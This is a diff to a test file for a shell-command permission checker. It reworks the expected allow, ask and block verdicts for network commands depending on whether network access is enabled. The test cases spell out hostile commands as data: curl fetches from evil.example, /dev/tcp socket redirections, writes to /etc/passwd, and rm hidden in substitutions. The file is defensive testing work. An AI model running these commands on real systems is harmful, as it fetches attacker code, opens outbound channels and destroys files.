@@ -6,17 +6,22 @@
  * ws; rm and git push blocked; no default, so unmatched commands ask).
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createShellFixture, verdictSuite, type ShellFixture, type VerdictCase } from '../../../test/shell-fixture.ts';
+import { createShellFixture, TEST_RULES, verdictSuite, type ShellFixture, type VerdictCase } from '../../../test/shell-fixture.ts';
 
 let fixture: ShellFixture;
+let networked: ShellFixture;
 
 beforeAll(() => {
   fixture = createShellFixture();
+  networked = createShellFixture({ shell: { rules: TEST_RULES, network: true } });
 });
-afterAll(() => fixture.remove());
+afterAll(() => {
+  fixture.remove();
+  networked.remove();
+});
 
-function suite(name: string, cases: readonly VerdictCase[]): void {
-  verdictSuite(name, cases, () => fixture);
+function suite(name: string, cases: readonly VerdictCase[], which: () => ShellFixture = () => fixture): void {
+  verdictSuite(name, cases, which);
 }
 
 suite('control cases stay pre-approved', [
@@ -67,7 +72,8 @@ suite('compound commands: every part must be allowed', [
   ['git status & rm x', 'block'],
   ['git status | sh', 'ask'],
   ['git status | bash -s', 'ask'],
-  ['git status; curl https://evil.example/x.sh', 'ask'],
+  // The fixture's policy leaves shell.network out, so the network is off (see the networked suite below).
+  ['git status; curl https://evil.example/x.sh', 'block'],
   ['git status | tee out.txt', 'ask'],
   ['(git status; rm x)', 'block'],
   ['{ git status; rm x; }', 'block'],
@@ -114,7 +120,8 @@ suite('wrappers are unwrapped, and must be covered themselves', [
   ['find . -ok rm {} \\;', 'block'],
   ["find . -exec sh -c 'rm \"$1\"' _ {} \\;", 'block'],
   ['find . -delete', 'ask'],
-  ['find . -fprint /tmp/list', 'ask'],
+  ['find . -fprint /tmp/list', 'block'],
+  ['find . -fprint list.txt', 'ask'],
   ['watch rm x', 'block'],
   ['watch -n 1 rm x', 'block'],
   ['parallel rm ::: a b', 'block'],
@@ -153,7 +160,7 @@ suite('substitutions: the commands inside are judged, and need a rule', [
   ['(( a[$(rm x)] ))', 'block'],
   ['echo $((1 + $(rm x)))', 'block'],
   ['ls > $(rm x)', 'block'],
-  ['echo $(curl https://evil.example)', 'ask'],
+  ['echo $(curl https://evil.example)', 'block'],
   ['echo $(unknown-command)', 'ask'],
   ['$(echo rm) x', 'ask'],
 ]);
@@ -182,8 +189,8 @@ suite('shell -c, eval, source and friends', [
   ["python3 -c 'import os; os.system(\"id\")'", 'ask'],
   ["node -e 'require(\"child_process\").execSync(\"id\")'", 'ask'],
   ["perl -e 'system q(id)'", 'ask'],
-  ['npx some-package', 'ask'],
-  ['npm exec some-package', 'ask'],
+  ['npx some-package', 'block'],
+  ['npm exec some-package', 'block'],
   ['let x=1', 'ask'],
   ['mapfile -C "rm x" -c 1 lines', 'ask'],
 ]);
@@ -223,12 +230,23 @@ suite('redirections are writes checked against the zones', [
   ['(echo x) >> /etc/passwd', 'block'],
   ['if true; then echo x; fi > /etc/passwd', 'block'],
   ['exec > /etc/passwd', 'block'],
-  ['exec 3<>/dev/tcp/evil.example/80', 'ask'],
-  ['cat < /dev/tcp/evil.example/80', 'ask'],
+  ['exec 3<>/dev/tcp/evil.example/80', 'block'],
+  ['cat < /dev/tcp/evil.example/80', 'block'],
   ['cd /etc && echo x > passwd', 'block'],
   ['cd "$HOME" && echo x > y', 'ask'],
   ['ls > /dev/stderr', 'allow'],
 ]);
+
+suite('with shell.network: true, network commands follow the rules (no rule names them: ask)', [
+  ['git status; curl https://evil.example/x.sh', 'ask'],
+  ['echo $(curl https://evil.example)', 'ask'],
+  ['npx some-package', 'ask'],
+  ['npm exec some-package', 'ask'],
+  ['exec 3<>/dev/tcp/evil.example/80', 'ask'],
+  ['cat < /dev/tcp/evil.example/80', 'ask'],
+  ['git push origin main', 'block'],
+  ['curl -o /etc/x https://evil.example', 'block'],
+], () => networked);
 
 function shellQuote(text: string): string {
   return `'${text.replaceAll("'", "'\\''")}'`;
